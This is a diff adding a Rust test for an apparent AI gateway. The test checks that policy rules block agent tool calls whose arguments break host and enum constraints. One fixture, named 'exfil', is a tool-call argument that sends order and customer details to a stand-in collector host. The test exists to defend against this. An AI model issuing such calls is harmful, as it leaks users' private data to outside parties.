@@ -197,3 +197,61 @@ deny = ["search_private*"]
         .unwrap();
     assert_eq!(resp.status(), 200);
 }
+
+#[tokio::test]
+async fn policy_rules_block_calls_whose_arguments_break_their_constraints() {
+    let gw = TestGateway::start(
+        r#"
+[[policies]]
+name = "agents"
+[[policies.tools.rules]]
+tools = ["look*"]
+[policies.tools.rules.arguments.url]
+hosts = ["api.example.com"]
+[policies.tools.rules.arguments.mode]
+enum = ["read"]
+"#,
+    )
+    .await;
+    let key = gw
+        .key(halberd_store::KeySpec {
+            name: "agents".into(),
+            policy: Some("agents".into()),
+            ..halberd_store::KeySpec::default()
+        })
+        .await
+        .key;
+    let allowed = r#"{"url": "https://api.example.com/orders/7", "mode": "read"}"#;
+    let exfil = r#"{"url": "https://collector.example/?d=order+7+for+ann", "mode": "read"}"#;
+    for path in PATHS {
+        for stream in [false, true] {
+            let (status, raw) = ask(&gw, &key, path, stream, Some("lookup"), Some(allowed)).await;
+            assert_eq!(status, 200, "{path} stream={stream}: {raw}");
+            assert!(!raw.contains("tool_call_blocked"), "{raw}");
+        }
+        // Whole: 403, naming the argument and the constraint, never the value.
+        let (status, raw) = ask(&gw, &key, path, false, Some("lookup"), Some(exfil)).await;
+        assert_eq!(status, 403, "{path}: {raw}");
+        let v: Value = serde_json::from_str(&raw).unwrap();
+        assert_eq!(v["error"]["code"], "tool_call_blocked", "{path}: {raw}");
+        let message = v["error"]["message"].as_str().unwrap();
+        assert!(message.contains("/url: hosts"), "{message}");
+        assert!(!raw.contains("collector"), "{raw}");
+        // Streamed: the stream ends with the error when the call is complete.
+        let (status, raw) = ask(&gw, &key, path, true, Some("lookup"), Some(exfil)).await;
+        assert_eq!(status, 200);
+        assert!(raw.contains("tool_call_blocked"), "{path}: {raw}");
+    }
+    // The same call under a key without the rule passes.
+    let plain = gw.any_key().await;
+    let (status, _) = ask(
+        &gw,
+        &plain,
+        "/v1/chat/completions",
+        false,
+        Some("lookup"),
+        Some(exfil),
+    )
+    .await;
+    assert_eq!(status, 200);
+}
